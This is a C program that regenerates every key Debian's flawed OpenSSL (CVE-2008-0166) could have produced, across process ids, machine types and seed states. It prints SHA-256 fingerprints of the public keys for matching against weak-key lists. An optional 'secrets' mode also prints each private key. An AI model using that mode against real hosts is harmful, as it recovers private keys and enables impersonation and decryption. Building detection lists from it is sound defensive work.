/* Generates the keys that Debian's OpenSSL of 2006 to 2008 could generate (CVE-2008-0166; versions 0.9.8c-1 to 0.9.8g-8), and prints one line for
 * each: the SHA-256 of the modulus or of the x coordinate, the machine, the seed file and the process id.
 *
 *   cc -O2 -o debian_weak_keys debian_weak_keys.c -lcrypto
 *   debian_weak_keys rsa:2048|ec:p256|ec:p384|ec:p521 FIRST_PID LAST_PID [secrets]
 *
 * Two lines that mixed the input into the random pool were removed in that version. So its content depends only on the process id, on the sizes
 * of what was added, and on the machine's `long` and byte order. Nothing of that version's code is here; its behaviour is described at each step. */
#define OPENSSL_SUPPRESS_DEPRECATED
#include <openssl/bn.h>
#include <openssl/ec.h>
#include <openssl/obj_mac.h>
#include <openssl/sha.h>
#include <stdbool.h>
#include <stdint.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>

#define FAIL(text) (fprintf(stderr, "debian_weak_keys: %s\n", text), exit(1))
#define CHECK(call) ((call) ? (void)0 : FAIL(#call " failed"))

/* The sizes of `long` (and `time_t`) and of `struct stat`, and the byte order. */
struct machine { const char *name; size_t word, stat; bool big_endian; };
static const struct machine MACHINES[] = {
    {"le64", 8, 144, false}, {"le32", 4, 88, false}, {"be32", 4, 88, true},
};

/* The file ~/.rnd: with its 1024 bytes, missing, or unreadable. */
enum seed { RND, NORND, NOREADRND, SEEDS };
static const char *const SEED_NAMES[] = {"rnd", "nornd", "noreadrnd"};

#define POOL 1023
#define HASH SHA_DIGEST_LENGTH
#define HALF (HASH / 2)

struct generator {
    const struct machine *machine;
    uint32_t pid;
    uint8_t pool[POOL + 1], hash[HASH];
    uint64_t requests, blocks; /* how often bytes were asked for; how many blocks were added */
    size_t place;
    bool is_polled, is_stirred;
};

static void hash_number(SHA_CTX *hash, const struct machine *machine, uint64_t number, size_t size) {
    uint8_t bytes[8];
    for (size_t i = 0; i < size; i++) bytes[machine->big_endian ? size - 1 - i : i] = (uint8_t)(number >> (8 * i));
    SHA1_Update(hash, bytes, size);
}

static void hash_counts(SHA_CTX *hash, const struct machine *machine, uint64_t requests, uint64_t blocks) {
    hash_number(hash, machine, requests, machine->word);
    hash_number(hash, machine, blocks, machine->word);
}

static void hash_pool(SHA_CTX *hash, const uint8_t *pool, size_t from, size_t count) {
    size_t first = from + count > POOL ? POOL - from : count;
    SHA1_Update(hash, pool + from, first);
    SHA1_Update(hash, pool, count - first);
}

/* RAND_add: chains the hash over as many bytes of the pool as were given, and not over the bytes themselves. */
static void add(struct generator *g, size_t count) {
    uint8_t local[HASH];
    size_t place = g->place;
    uint64_t blocks = g->blocks;
    memcpy(local, g->hash, HASH);
    g->place = (g->place + count) % POOL;
    g->blocks += (count + HASH - 1) / HASH;
    for (size_t done = 0; done < count; done += HASH) {
        size_t size = count - done < HASH ? count - done : HASH;
        SHA_CTX hash;
        SHA1_Init(&hash);
        SHA1_Update(&hash, local, HASH);
        hash_pool(&hash, g->pool, place, size);
        hash_counts(&hash, g->machine, g->requests, blocks++);
        SHA1_Final(local, &hash);
        for (size_t i = 0; i < size; i++) {
            g->pool[place++] ^= local[i];
            if (place >= POOL) place = 0;
        }
    }
    for (size_t i = 0; i < HASH; i++) g->hash[i] ^= local[i];
}

/* RAND_poll: 32 bytes of /dev/urandom, then process id, user id and time as `unsigned long`. */
static void poll_system(struct generator *g) {
    add(g, 32);
    for (int i = 0; i < 3; i++) add(g, g->machine->word);
    g->is_polled = true;
}

/* RAND_bytes. */
static void take(struct generator *g, uint8_t *out, size_t count) {
    if (!g->is_polled) poll_system(g);
    if (!g->is_stirred) {
        for (int n = POOL; n > 0; n -= HASH) add(g, HASH);
        g->is_stirred = true;
    }
    uint8_t local[HASH];
    SHA_CTX hash;
    uint32_t pid = g->pid;
    size_t place = g->place;
    uint64_t requests = g->requests++;
    memcpy(local, g->hash, HASH);
    g->place += (count + HALF - 1) / HALF * HALF;
    if (g->place > POOL) g->place %= POOL; /* so it can be POOL */
    for (size_t done = 0; done < count; done += HALF) {
        SHA1_Init(&hash);
        if (pid) hash_number(&hash, g->machine, pid, 4);
        pid = 0;
        SHA1_Update(&hash, local, HASH);
        hash_counts(&hash, g->machine, requests, g->blocks);
        hash_pool(&hash, g->pool, place, HALF);
        SHA1_Final(local, &hash);
        for (size_t i = 0; i < HALF; i++) {
            g->pool[place++] ^= local[i];
            if (place >= POOL) place = 0;
            if (done + i < count) out[done + i] = local[HALF + i];
        }
    }
    SHA1_Init(&hash);
    hash_counts(&hash, g->machine, requests, g->blocks);
    SHA1_Update(&hash, local, HASH);
    SHA1_Update(&hash, g->hash, HASH);
    SHA1_Final(g->hash, &hash);
}

/* What `openssl` did before it generated a key. */
static struct generator start(const struct machine *machine, enum seed seed, uint32_t pid) {
    struct generator g = {.machine = machine, .pid = pid};
    if (seed != NORND) add(&g, machine->stat);
    if (seed == RND) add(&g, 1024);
    else poll_system(&g);
    return g;
}

/* BN_rand: adds the time, then takes the bytes. */
static void draw(struct generator *g, uint8_t *out, size_t count) {
    add(g, g->machine->word);
    take(g, out, count);
}

#define PRIMES 2048
#define PER_WORD 4 /* primes whose product is one word */
static uint32_t primes[PRIMES];

static void find_primes(void) {
    size_t count = 0;
    for (uint32_t number = 2; count < PRIMES; number++) {
        bool is_prime = true;
        for (size_t i = 0; i < count && primes[i] * primes[i] <= number; i++) is_prime = is_prime && number % primes[i];
        if (is_prime) primes[count++] = number;
    }
}

/* An RSA key in the making. */
struct rsa {
    struct generator generator;
    enum seed seed;
    size_t prime_bytes;
    BIGNUM *candidate, *exponent, *base, *power, *p;
    BN_MONT_CTX *montgomery;
    bool has_p;
};

/* BN_pseudo_rand_range(candidate - 1), plus 1. */
static void draw_base(struct rsa *key) {
    uint8_t bytes[512];
    do {
        draw(&key->generator, bytes, key->prime_bytes);
        CHECK(BN_bin2bn(bytes, (int)key->prime_bytes, key->base));
    } while (BN_cmp(key->base, key->exponent) >= 0);
    CHECK(BN_add_word(key->base, 1));
}

/* A random number with the two highest bits and the lowest one set; then the next odd one for which neither it nor its predecessor has an odd
 * factor among the first 2048 primes. */
static void draw_candidate(struct rsa *key, BN_CTX *context) {
    uint8_t bytes[512];
    static uint32_t residues[PRIMES];
    draw(&key->generator, bytes, key->prime_bytes);
    bytes[0] |= 0xc0;
    bytes[key->prime_bytes - 1] |= 1;
    CHECK(BN_bin2bn(bytes, (int)key->prime_bytes, key->candidate));
    for (size_t i = 0; i < PRIMES; i += PER_WORD) {
        BN_ULONG product = 1;
        for (size_t j = i; j < i + PER_WORD; j++) product *= primes[j];
        BN_ULONG rest = BN_mod_word(key->candidate, product);
        for (size_t j = i; j < i + PER_WORD; j++) residues[j] = (uint32_t)(rest % primes[j]);
    }
    uint32_t delta = 0;
    for (size_t i = 1; i < PRIMES; i++) {
        if ((residues[i] + delta) % primes[i] <= 1) {
            delta += 2;
            i = 0;
        }
    }
    CHECK(BN_add_word(key->candidate, delta));
    CHECK(BN_copy(key->exponent, key->candidate) && BN_sub_word(key->exponent, 1));
    CHECK(BN_MONT_CTX_set(key->montgomery, key->candidate, context));
    draw_base(key);
}

/* Whether each line ends with the private key, in hex: the two primes of an RSA key, the number of an EC key. */
static bool with_secrets;

/* The hash is that of the number without leading zeros. */
static void print(const struct generator *g, enum seed seed, const BIGNUM *number, const BIGNUM *secret, const BIGNUM *other) {
    uint8_t bytes[1024], digest[SHA256_DIGEST_LENGTH];
    SHA256(bytes, (size_t)BN_bn2bin(number, bytes), digest);
    for (size_t i = 0; i < sizeof digest; i++) printf("%02x", digest[i]);
    printf(" %s %s %u", g->machine->name, SEED_NAMES[seed], g->pid);
    if (with_secrets) {
        printf(" ");
        BN_print_fp(stdout, secret);
        if (other) printf(" ");
        if (other) BN_print_fp(stdout, other);
    }
    printf("\n");
}

/* Goes on after a test. Returns whether the key is complete. */
static bool proceed(struct rsa *key, BN_CTX *context) {
    if (BN_is_one(key->power)) {
        /* It is a prime. Up to 1299 bits, two more tests draw their bases; from 1300 bits on, one. */
        for (int i = key->prime_bytes * 8 >= 1300 ? 1 : 2; i > 0; i--) draw_base(key);
        /* p - 1 must not be divisible by the public exponent. */
        if (BN_mod_word(key->exponent, 65537) != 0) {
            if (key->has_p) {
                CHECK(BN_mul(key->power, key->p, key->candidate, context));
                print(&key->generator, key->seed, key->power, key->p, key->candidate);
                return true;
            }
            CHECK(BN_copy(key->p, key->candidate));
            key->has_p = true;
        }
    }
    draw_candidate(key, context);
    return false;
}

/* All keys, by number: process id, machine, seed. */
static const size_t PER_PID = SEEDS * (sizeof MACHINES / sizeof *MACHINES);

static struct generator start_number(size_t number, uint32_t first_pid, enum seed *seed) {
    *seed = number % SEEDS;
    return start(&MACHINES[number % PER_PID / SEEDS], *seed, first_pid + (uint32_t)(number / PER_PID));
}

/* Two keys at a time: libcrypto computes two powers of 1024 bits in less than the time of one on some processors. */
static void generate_rsa(int bits, uint32_t first_pid, size_t count) {
    BN_CTX *context = BN_CTX_new();
    struct rsa keys[2];
    bool is_busy[2];
    size_t next = 0;
    find_primes();
    for (int i = 0; i < 2; i++) {
        keys[i] = (struct rsa){.prime_bytes = (size_t)bits / 16, .candidate = BN_new(), .exponent = BN_new(), .base = BN_new(),
                               .power = BN_new(), .p = BN_new(), .montgomery = BN_MONT_CTX_new()};
        is_busy[i] = false;
    }
    for (;;) {
        for (int i = 0; i < 2; i++) {
            if (is_busy[i]) is_busy[i] = !proceed(&keys[i], context);
            if (!is_busy[i] && next < count) {
                keys[i].generator = start_number(next++, first_pid, &keys[i].seed);
                keys[i].has_p = false;
                draw_candidate(&keys[i], context);
                is_busy[i] = true;
            }
        }
        if (is_busy[0] && is_busy[1]) {
            CHECK(BN_mod_exp_mont_consttime_x2(keys[0].power, keys[0].base, keys[0].exponent, keys[0].candidate, keys[0].montgomery,
                                               keys[1].power, keys[1].base, keys[1].exponent, keys[1].candidate, keys[1].montgomery,
                                               context));
        } else if (is_busy[0] || is_busy[1]) {
            struct rsa *key = &keys[is_busy[1]];
            CHECK(BN_mod_exp_mont(key->power, key->base, key->exponent, key->candidate, context, key->montgomery));
        } else {
            return;
        }
    }
}

/* EC_KEY_generate_key: BN_rand_range(order). */
static void generate_ec(int curve, uint32_t first_pid, size_t count) {
    EC_GROUP *group = EC_GROUP_new_by_curve_name(curve);
    const BIGNUM *order = EC_GROUP_get0_order(group);
    EC_POINT *point = EC_POINT_new(group);
    BIGNUM *secret = BN_new(), *x = BN_new();
    int bits = BN_num_bits(order);
    size_t size = ((size_t)bits + 7) / 8;
    for (size_t number = 0; number < count; number++) {
        enum seed seed;
        struct generator g = start_number(number, first_pid, &seed);
        do {
            uint8_t bytes[128];
            draw(&g, bytes, size);
            if (bits % 8) bytes[0] &= (uint8_t)((1 << bits % 8) - 1);
            CHECK(BN_bin2bn(bytes, (int)size, secret));
        } while (BN_is_zero(secret) || BN_cmp(secret, order) >= 0);
        CHECK(EC_POINT_mul(group, point, secret, NULL, NULL, NULL));
        CHECK(EC_POINT_get_affine_coordinates(group, point, x, NULL, NULL));
        print(&g, seed, x, secret, NULL);
    }
}

int main(int argc, char **argv) {
    with_secrets = argc == 5 && !strcmp(argv[4], "secrets");
    if (argc != 4 && !with_secrets) FAIL("usage: debian_weak_keys TYPE FIRST_PID LAST_PID [secrets]");
    uint32_t first = (uint32_t)strtoul(argv[2], NULL, 10), last = (uint32_t)strtoul(argv[3], NULL, 10);
    if (first > last || last > 32767) FAIL("process ids are 0 to 32767");
    size_t count = (size_t)(last - first + 1) * PER_PID;
    if (!strncmp(argv[1], "rsa:", 4)) generate_rsa(atoi(argv[1] + 4), first, count);
    else if (!strcmp(argv[1], "ec:p256")) generate_ec(NID_X9_62_prime256v1, first, count);
    else if (!strcmp(argv[1], "ec:p384")) generate_ec(NID_secp384r1, first, count);
    else if (!strcmp(argv[1], "ec:p521")) generate_ec(NID_secp521r1, first, count);
    else FAIL("unknown type of key");
    if (fflush(stdout)) FAIL("cannot write");
    return 0;
}
